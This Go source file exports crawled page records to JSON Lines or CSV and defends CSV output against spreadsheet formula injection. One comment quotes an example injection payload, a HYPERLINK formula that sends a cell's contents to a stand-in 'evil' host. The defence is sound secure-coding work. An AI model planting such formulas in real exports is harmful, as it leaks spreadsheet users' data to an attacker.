package sqldb

import (
	"bufio"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"maps"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"time"

	"github.com/rendercrawl/render/sink"
)

// Export formats.
const (
	FormatJSONL = "jsonl"
	FormatCSV   = "csv"
)

// Export writes the rows of rd that f selects to w, as JSON Lines (the
// records, as the crawl wrote them) or CSV (the columns), and returns how
// many it wrote.
func Export(ctx context.Context, rd Reader, f Filter, format string, w io.Writer) (int, error) {
	bw := bufio.NewWriterSize(w, 1<<16)
	n := 0
	var each func(*Row) error
	var cw *csv.Writer
	switch format {
	case FormatJSONL:
		each = func(r *Row) error {
			line, err := r.JSONFields(f.Fields)
			if err != nil {
				return err
			}
			bw.Write(line)
			return bw.WriteByte('\n')
		}
	case FormatCSV:
		cw = csv.NewWriter(bw)
		if err := cw.Write(CSVHeader); err != nil {
			return 0, err
		}
		each = func(r *Row) error { return cw.Write(r.CSV()) }
	default:
		return 0, fmt.Errorf("sqldb: export format %q is not %s or %s", format, FormatJSONL, FormatCSV)
	}
	err := rd.Pages(ctx, f, func(r *Row) error {
		n++
		return each(r)
	})
	if cw != nil {
		cw.Flush()
		if err == nil {
			err = cw.Error()
		}
	}
	if ferr := bw.Flush(); err == nil {
		err = ferr
	}
	return n, err
}

// CSVHeader names the columns of Row.CSV: those of pages but the record's
// JSON.
var CSVHeader = []string{
	"url", "final_url", "status", "mode", "reason", "title", "text", "html", "error", "error_kind",
	"fetched_at", "elapsed_ms", "depth", "links", "requests", "first_seen", "fetch_count",
}

// CSV is the row's columns, in the order of CSVHeader. A text a
// spreadsheet would take for a formula (a page's title
// =HYPERLINK("http://evil/?"&A1)) is prefixed with a quote (csvText).
func (r *Row) CSV() []string {
	return []string{
		csvText(r.URL), csvText(r.FinalURL), strconv.Itoa(r.Status), r.Mode, r.Reason, csvText(r.Title), csvText(r.Text),
		csvText(r.HTML), csvText(r.Error), r.ErrorKind,
		r.FetchedAt.UTC().Format(time.RFC3339Nano), strconv.FormatInt(r.ElapsedMS, 10), strconv.Itoa(r.Depth),
		string(r.Links), string(r.Requests), r.FirstSeen.UTC().Format(time.RFC3339Nano), strconv.Itoa(r.FetchCount),
	}
}

// recordKeys are the JSON names of sink.Record's fields, in order.
var recordKeys = sink.RecordKeys()

// jsonNames are the JSON names of the fields of a struct type, in order.
func jsonNames(t reflect.Type) []string {
	var names []string
	for i := range t.NumField() {
		tag, _, _ := bytes.Cut([]byte(t.Field(i).Tag.Get("json")), []byte(","))
		if len(tag) > 0 && string(tag) != "-" {
			names = append(names, string(tag))
		}
	}
	return names
}

// recordObjects are the Go types of sink.Record's fields that hold
// objects (console, requests, ...), by JSON name: jsonb keeps no order of
// the keys inside them either, and decoding and encoding them again puts
// it back.
var recordObjects = objectTypes(reflect.TypeFor[sink.Record]())

func objectTypes(t reflect.Type) map[string]reflect.Type {
	out := map[string]reflect.Type{}
	for _, f := range reflect.VisibleFields(t) {
		if f.Anonymous {
			continue // its fields are visible
		}
		tag, _, _ := bytes.Cut([]byte(f.Tag.Get("json")), []byte(","))
		elem := f.Type
		for elem.Kind() == reflect.Slice || elem.Kind() == reflect.Pointer {
			elem = elem.Elem()
		}
		object := elem.Kind() == reflect.Struct && elem != reflect.TypeFor[time.Time]() || elem.Kind() == reflect.Map
		if len(tag) > 0 && string(tag) != "-" && object {
			out[string(tag)] = f.Type
		}
	}
	return out
}

// reorder puts the keys of the objects inside the known fields back in
// the order of their Go types' fields, those it does not know after them.
func reorder(fields map[string]json.RawMessage) {
	for k, typ := range recordObjects {
		if v, ok := fields[k]; ok {
			fields[k] = reorderValue(v, typ)
		}
	}
}

// reorderValue is v, a JSON value of Go type typ, with the keys of its
// objects in the order of typ's fields; a value of another shape is kept
// as it is.
func reorderValue(v json.RawMessage, typ reflect.Type) json.RawMessage {
	for typ.Kind() == reflect.Pointer {
		typ = typ.Elem()
	}
	var b bytes.Buffer
	switch typ.Kind() {
	case reflect.Slice:
		var items []json.RawMessage
		if json.Unmarshal(v, &items) != nil || items == nil {
			return v
		}
		b.WriteByte('[')
		for i, it := range items {
			if i > 0 {
				b.WriteByte(',')
			}
			b.Write(reorderValue(it, typ.Elem()))
		}
		b.WriteByte(']')
	case reflect.Struct:
		fields, order, err := objectFields(v)
		if err != nil {
			return v
		}
		for k, ft := range objectTypes(typ) {
			if fv, ok := fields[k]; ok {
				fields[k] = reorderValue(fv, ft)
			}
		}
		writeObject(&b, fields, jsonNames(typ), order)
	case reflect.Map:
		// encoding/json writes a map's keys sorted.
		fields, _, err := objectFields(v)
		if err != nil || fields == nil {
			return v
		}
		keys := slices.Sorted(maps.Keys(fields))
		for k, fv := range fields {
			fields[k] = reorderValue(fv, typ.Elem())
		}
		writeObject(&b, fields, keys)
	default:
		return v
	}
	return b.Bytes()
}

// JSON is the row's record as the crawl wrote it to JSON Lines: the stored
// record with its html and text back in, its fields in the order of
// sink.Record, then any this build does not know (a later build's) in
// the order stored. PostgreSQL's jsonb keeps no order: this puts it back.
func (r *Row) JSON() ([]byte, error) { return r.JSONFields(sink.Fields{}) }

// JSONFields is JSON with only the keys keep keeps.
func (r *Row) JSONFields(keep sink.Fields) ([]byte, error) {
	fields, order, err := objectFields(r.Record)
	if err != nil {
		return nil, fmt.Errorf("sqldb: record of %s: %w", r.URL, err)
	}
	reorder(fields)
	for k := range fields {
		if !keep.Has(k) {
			delete(fields, k)
		}
	}
	// html and text live in columns of their own; a record stored
	// without them (--omit html) gets them not back.
	if _, ok := fields["html"]; ok {
		if fields["html"], err = encode(r.HTML); err != nil {
			return nil, err
		}
	}
	if _, ok := fields["text"]; ok {
		if fields["text"], err = encode(r.Text); err != nil {
			return nil, err
		}
	}
	var b bytes.Buffer
	writeObject(&b, fields, recordKeys, order)
	var out bytes.Buffer
	if err := json.Compact(&out, b.Bytes()); err != nil {
		return nil, fmt.Errorf("sqldb: record of %s: %w", r.URL, err)
	}
	return out.Bytes(), nil
}

// writeObject writes to b a JSON object of fields, its keys in the order
// of the lists of keys, each once; a key without a field is left out.
// It empties fields of the keys it wrote.
func writeObject(b *bytes.Buffer, fields map[string]json.RawMessage, keys ...[]string) {
	b.WriteByte('{')
	first := true
	for _, list := range keys {
		for _, k := range list {
			v, ok := fields[k]
			if !ok {
				continue
			}
			if !first {
				b.WriteByte(',')
			}
			first = false
			key, _ := encode(k)
			b.Write(key)
			b.WriteByte(':')
			b.Write(v)
			delete(fields, k)
		}
	}
	b.WriteByte('}')
}

// objectFields splits a JSON object into its fields and their order.
func objectFields(obj []byte) (map[string]json.RawMessage, []string, error) {
	dec := json.NewDecoder(bytes.NewReader(obj))
	if tok, err := dec.Token(); err != nil || tok != json.Delim('{') {
		return nil, nil, fmt.Errorf("not a JSON object")
	}
	fields := map[string]json.RawMessage{}
	var order []string
	for dec.More() {
		tok, err := dec.Token()
		if err != nil {
			return nil, nil, err
		}
		key, _ := tok.(string)
		var v json.RawMessage
		if err := dec.Decode(&v); err != nil {
			return nil, nil, err
		}
		if _, dup := fields[key]; !dup {
			order = append(order, key)
		}
		fields[key] = v
	}
	return fields, order, nil
}

// csvText is s as a spreadsheet shows it rather than runs it: a cell
// that starts with =, +, -, @, a tab or a carriage return is a formula
// to Excel, LibreOffice and Google Sheets, and gets a leading quote.
func csvText(s string) string {
	if s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0])) {
		return "'" + s
	}
	return s
}
